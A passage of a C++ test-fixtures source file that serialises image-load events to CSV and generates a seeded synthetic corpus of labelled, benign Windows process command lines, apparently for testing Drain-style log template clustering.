    out += text::csv_escape(img.timestamp.text) + "," + text::csv_escape(img.device_id) + "," +
           text::csv_escape(img.image_file_name) + "," + text::csv_escape(img.image_folder_path) + "," +
           std::to_string(img.loading_process_id) + "," + format_timestamp(img.loading_process_creation_ns, 9) + "," +
           text::csv_escape(img.hash.value_or("")) + "\n";
  }
  return out;
}

LabelledLines make_drain_corpus(std::uint64_t seed, std::size_t lines) {
  Rng r(seed);
  const std::vector<std::function<std::string(Rng&)>> shapes = {
      [](Rng& g) {
        static const std::vector<std::string> s = {"Schedule", "BITS", "Winmgmt", "gpsvc", "ProfSvc", "Themes"};
        return "svchost.exe -k netsvcs -p -s " + g.pick(s);
      },
      [](Rng& g) {
        return "chrome.exe --type=renderer --renderer-client-id=" + std::to_string(g.between(5, 400)) +
               " --lang=en-US --field-trial-handle=" + g.digits(4) + ",i," + g.digits(19) + " /prefetch:1";
      },
      [](Rng&) { return std::string("conhost.exe 0xffffffff -ForceV1"); },
      [](Rng& g) {
        static const std::vector<std::string> s = {"sync_shares", "backup_docs", "refresh_drives", "clean_temp"};
        return "cmd.exe /c C:\\ProgramData\\Contoso\\Tools\\" + g.pick(s) + ".bat";
      },
      [](Rng& g) {
        static const std::vector<std::string> s = {"origin", "upstream", "fork"};
        return "git.exe fetch " + g.pick(s) + " --prune --tags";
      },
      [](Rng& g) {
        return "python.exe run.py --date 2023-05-" + std::to_string(g.between(10, 28)) + " --batch " +
               std::to_string(g.between(1, 500)) + " --verbose";
      },
      [](Rng& g) {
        static const std::vector<std::string> s = {"Quarterly_Report", "Meeting_Notes", "Proposal_Draft"};
        return "winword.exe /n C:\\Users\\alice\\Documents\\" + g.pick(s) + "_" + std::to_string(g.between(1, 40)) +
               ".docx /o";
      },
      [](Rng& g) {
        static const std::vector<std::string> s = {"{3EB3C877-1F16-487C-9050-104DBCD66683}",
                                                   "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
                                                   "{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}"};
        return "dllhost.exe /Processid:" + g.pick(s);
      },
      [](Rng& g) { return "timeout.exe " + std::to_string(g.between(1, 120)) + " /nobreak"; },
      [](Rng& g) {
        return "SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe" + std::to_string(g.between(1, 60)) +
               " Global\\UsGthrCtrlFltPipeMssGthrPipe" + std::to_string(g.between(1, 60)) + " 1 -2147483646";
      },
      [](Rng&) { return std::string("RuntimeBroker.exe -Embedding"); },
      [](Rng& g) {
        static const std::vector<std::string> s = {"KEYROAMING", "UserTask", "SyncTask", "LogonTask"};
        return "taskhostw.exe /run " + g.pick(s) + " /quiet";
      },
  };
  LabelledLines out;
  for (std::size_t i = 0; i < lines; ++i) {
    const int label = static_cast<int>(r.between(0, static_cast<std::int64_t>(shapes.size()) - 1));
    out.lines.push_back(shapes[static_cast<std::size_t>(label)](r));
    out.labels.push_back(label);
  }
  return out;
}

}  // namespace isoex::fixtures
